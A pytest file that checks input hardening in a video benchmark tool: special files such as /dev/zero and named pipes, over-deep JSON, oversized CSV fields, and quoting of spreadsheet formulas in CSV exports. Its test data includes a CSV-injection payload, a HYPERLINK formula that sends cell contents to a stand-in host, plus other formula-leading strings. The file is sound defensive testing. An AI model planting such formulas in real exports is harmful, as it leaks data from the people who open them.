"""Leaderboard inputs from untrusted submitters: special files, deep JSON, huge CSV fields,
spreadsheet formulas in exports (security audit s20: M4, L3, L5)."""
from __future__ import annotations

import csv
import json
import os
import signal
from contextlib import contextmanager
from pathlib import Path
from typing import List, Tuple

import pytest
import torch

from helpers import CountingScorer, fake_result, write_clips, write_jsonl

from geocon_torch.bench import (ManifestError, ResultStore, flatten_row, load_manifest,
                                load_results, run_manifest, write_csv, write_manifest)
from geocon_torch.bench.manifest import ManifestEntry
from geocon_torch.bench.schema import ResultSchemaError
from geocon_torch.cli import main
from geocon_torch.errors import VideoReadError
from geocon_torch.io import content_hash
from geocon_torch.io.writer import write_video

#: deeper than the interpreter's recursion limit (1000): json raises RecursionError
DEEP = "[" * 100_000 + "]" * 100_000


class _Hung(BaseException):
    """Raised by :func:`_deadline`: not an Exception, so no ``except Exception`` of the code
    under test (a clip's error row) takes it for that clip's failure and goes on."""


@contextmanager
def _deadline(seconds: float):
    """Fail the test when the block still runs after ``seconds``: SIGALRM then, and every
    0.5 s after, raises :class:`_Hung` in this (main) thread, also out of a blocking read or
    open() (reading /dev/zero to its end, open() of a FIFO without a writer)."""
    def expire(signum, frame):
        raise _Hung

    old = signal.signal(signal.SIGALRM, expire)
    signal.setitimer(signal.ITIMER_REAL, seconds, 0.5)
    try:
        yield
    except _Hung:
        pytest.fail(f"still running after {seconds} s (a read that never ends?)")
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, old)


def _geocon(capsys, args: List[str], cwd: Path, monkeypatch,
            timeout_s: float = 60) -> Tuple[int, str, List[str]]:
    """(exit status, stdout, stderr lines) of ``geocon ARGS`` run in ``cwd``, in this process
    under a deadline."""
    monkeypatch.chdir(cwd)
    capsys.readouterr()
    with _deadline(timeout_s):
        code = main(args)
    out = capsys.readouterr()
    return code, out.out, out.err.strip().splitlines()


def _small_video(path: Path) -> Path:
    """A 12-frame 64x48 noise clip (real H.264: scoring gets past decoding)."""
    gen = torch.Generator().manual_seed(0)
    return write_video(path, torch.randint(0, 256, (12, 3, 48, 64), generator=gen,
                                           dtype=torch.uint8), fps=8.0)


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs named pipes (POSIX)")
def test_special_files_are_clip_errors_not_a_hang(tmp_path: Path, capsys, monkeypatch):
    """M4: a manifest path (or masks_path / poses_path) naming /dev/zero or a named pipe is
    that clip's error row with the reason, the run goes on and ends (hashing /dev/zero to its
    end, and open() of a FIFO without a writer, never finished). Two such side inputs of one
    video get their own store keys (each row names its own file, none is linked to another)."""
    fifo = tmp_path / "pipe.mp4"
    os.mkfifo(fifo)
    video = _small_video(tmp_path / "v.mp4")
    rows = [{"clip_id": "zero", "path": "/dev/zero", "generator": "g"},
            {"clip_id": "fifo", "path": str(fifo), "generator": "g"}]
    rows += [{"clip_id": f"{side[0]}{name}", "path": str(video), f"{side}_path": str(p),
              "generator": "g"}
             for side in ("masks", "poses") for name, p in (("zero", "/dev/zero"),
                                                           ("fifo", fifo))]
    m = write_jsonl(tmp_path / "m.jsonl", rows)
    code, out, err = _geocon(capsys, ["bench", str(m), "--db", "r.sqlite", "--no-progress"],
                             tmp_path, monkeypatch)
    assert code == 0, err
    assert "6 scored (0 ok, 0 not applicable, 6 error), 0 already stored, 0 linked" in out, out
    with ResultStore(tmp_path / "r.sqlite") as s:
        reason = {r["clip_id"]: r["reason"] for r in s.rows()}
    assert reason["zero"] == ("VideoReadError: /dev/zero: not a regular file or a folder "
                              "(a character device); give a video file or a folder of images")
    assert reason["fifo"] == (f"VideoReadError: {fifo}: not a regular file or a folder "
                              "(a named pipe, FIFO); give a video file or a folder of images")
    for cid in ("mzero", "mfifo"):
        p = "/dev/zero" if cid == "mzero" else str(fifo)
        assert reason[cid].startswith(f"InputError: {p} is not a masks source"), reason[cid]
    for cid in ("pzero", "pfifo"):
        p = "/dev/zero" if cid == "pzero" else str(fifo)
        assert reason[cid].startswith(f"InputError: pose log {p} is not a regular file")


def test_content_hash_refuses_special_files_before_reading(tmp_path: Path):
    """The one check (io.decode.check_file) that readers and hashing share: a device is a
    VideoReadError at once; a regular file and a folder hash as before (sha256 of the bytes)."""
    with _deadline(10), pytest.raises(VideoReadError, match="a character device"):
        content_hash("/dev/zero")
    f = tmp_path / "a.mp4"
    f.write_bytes(b"abc")
    assert content_hash(f) == ("ba7816bf8f01cfea414140de5dae2223"
                               "b00361a396177a9cb410ff61f20015ad")


def _write(path: Path, text: str) -> Path:
    path.write_text(text)
    return path


def test_deep_json_and_huge_csv_fields_are_one_line_errors(tmp_path: Path, capsys,
                                                            monkeypatch):
    """L3: nesting past the recursion limit in a JSONL manifest / results file, and a CSV field
    over the csv module's limit, are ManifestError / ResultSchemaError naming file and line
    (they were a RecursionError / _csv.Error traceback, exit 1)."""
    v = tmp_path / "v.mp4"
    v.write_bytes(b"fake")
    deep = tmp_path / "deep.jsonl"
    deep.write_text(json.dumps({"path": str(v), "generator": "g"}) + "\n"
                    + '{"path": "v.mp4", "generator": "g", "x": ' + DEEP + "}\n")
    with pytest.raises(ManifestError, match=r"deep.jsonl, line 2: not valid JSON \(nested "
                                            r"deeper than"):
        load_manifest(deep)
    big = tmp_path / "big.csv"
    big.write_text(f"path,generator,prompt\n{v},g,short\n{v},g," + "a" * 200_000 + "\n")
    with pytest.raises(ManifestError, match=r"big.csv, line 3: not a valid CSV row \(field "
                                            r"larger than field limit \(131072\)\)"):
        load_manifest(big)
    res = tmp_path / "results.jsonl"
    res.write_text(json.dumps(fake_result("a")) + "\n" + DEEP + "\n")
    with pytest.raises(ResultSchemaError, match=r"results.jsonl, line 2: not JSON \(nested "
                                                r"deeper than"):
        load_results(res)
    for args, what in ((["bench", str(deep), "--db", "x.sqlite"], "deep.jsonl, line 2"),
                       (["bench", str(big), "--db", "x.sqlite"], "big.csv, line 3"),
                       (["report", str(res), "--out", "rep", "--no-draw"],
                        "results.jsonl, line 2"),
                       (["explain", str(res)], "results.jsonl, line 2"),
                       (["explain", str(_write(tmp_path / "deep.json", DEEP))],
                        "deep.json, line 1")):
        code, _, err = _geocon(capsys, args, tmp_path, monkeypatch)
        assert code == 2 and len(err) == 1 and what in err[0], err


def test_manifest_values_nested_past_the_limit_are_refused_before_scoring(tmp_path: Path):
    """L3: an extra column nesting 600 lists (valid JSON) was a RecursionError when the clip
    row was copied for the store, after scoring; now a ManifestError naming line and field
    before anything is scored. 64 levels (MAX_DEPTH) are kept and stored as given."""
    rows = write_clips(tmp_path / "clips", 2)
    rows[0]["x"] = json.loads("[" * 64 + "]" * 64)
    rows[1]["x"] = json.loads("[" * 600 + "]" * 600)
    m = write_jsonl(tmp_path / "m.jsonl", rows)
    scorer = CountingScorer()
    with pytest.raises(ManifestError, match=r"m.jsonl, line 2: field 'x' nests lists / objects "
                                            r"deeper than 64 levels"):
        run_manifest(m, tmp_path / "r.sqlite", score_fn=scorer, progress=False)
    assert scorer.calls == []
    write_jsonl(m, rows[:1])
    run_manifest(m, tmp_path / "r.sqlite", score_fn=scorer, progress=False)
    with ResultStore(tmp_path / "r.sqlite") as s:
        (entry,) = [json.loads(c["entry_json"]) for c in s.raw_clips()]
    assert entry["extra"]["x"] == rows[0]["x"] and scorer.calls == ["c0"]


FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "@SUM(1+1)", "+1+1", "-2+3",
            "\tx", "\rx", "'=already quoted", "''-twice", "plain", "'plain"]
#: how write_csv / write_manifest write each of FORMULAS
QUOTED = ["'" + f for f in FORMULAS[:8]] + ["plain", "'plain"]


def test_csv_export_quotes_formula_cells_but_not_numbers(tmp_path: Path):
    """L5: text cells of --export-csv that a spreadsheet would run as a formula (first
    character = + - @ tab CR, also after apostrophes) get one more leading apostrophe (OWASP);
    numbers (a negative score or seed) and other text are written as they are."""
    rows = write_clips(tmp_path / "clips", 6)
    for row, text in zip(rows, FORMULAS[:4] + FORMULAS[6:8]):
        row.update(generator=text, prompt=text)
    m = write_jsonl(tmp_path / "m.jsonl", rows)
    db = tmp_path / "r.sqlite"
    run_manifest(m, db, score_fn=CountingScorer(), progress=False)
    with ResultStore(db) as s:
        out = s.export_csv(tmp_path / "t.csv")
    with out.open(newline="") as fh:
        table = list(csv.DictReader(fh))
    want = QUOTED[:4] + QUOTED[6:8]
    assert [(t["generator"], t["prompt"]) for t in table] == list(zip(want, want))
    assert [t["clip_id"] for t in table] == [f"c{i}" for i in range(6)]
    assert [t["seed"] for t in table] == ["0"] * 6 and table[0]["status"] == "ok"
    assert [float(t["ir"]) for t in table] == pytest.approx(
        [flatten_row(r)["ir"] for r in load_results(db)])
    records = [{"clip_id": f"c{i}", "generator": f, "reason": f, "score": -0.5, "seed": -1}
               for i, f in enumerate(FORMULAS)]
    with write_csv(tmp_path / "w.csv", records).open(newline="") as fh:
        table = list(csv.DictReader(fh))
    assert [(t["generator"], t["reason"]) for t in table] == list(zip(QUOTED, QUOTED))
    assert {(t["score"], t["seed"]) for t in table} == {("-0.5", "-1")}


def test_manifest_csv_quotes_formulas_and_reads_them_back(tmp_path: Path):
    """L5: write_manifest's CSV quotes formula-leading text the same way, and load_manifest
    removes that one apostrophe again: the CSV round trip is exact (text columns are stripped
    on reading, as always; an extra column is kept as written)."""
    entries = [ManifestEntry(f"c{i}", str(tmp_path / f"{i}.mp4"), text, prompt=text,
                             extra={"note": text}) for i, text in enumerate(FORMULAS)]
    out = write_manifest(tmp_path / "m.csv", entries)
    with out.open(newline="") as fh:
        raw = list(csv.DictReader(fh))
    assert [r["note"] for r in raw] == QUOTED and [r["prompt"] for r in raw] == QUOTED
    back = load_manifest(out)
    assert [e.extra["note"] for e in back] == FORMULAS
    assert [e.prompt for e in back] == [f.strip() for f in FORMULAS]
    assert [e.generator for e in back] == [f.strip() for f in FORMULAS]
    again = load_manifest(write_manifest(tmp_path / "again.csv", back))
    assert [e.to_dict() for e in again] == [e.to_dict() for e in back]
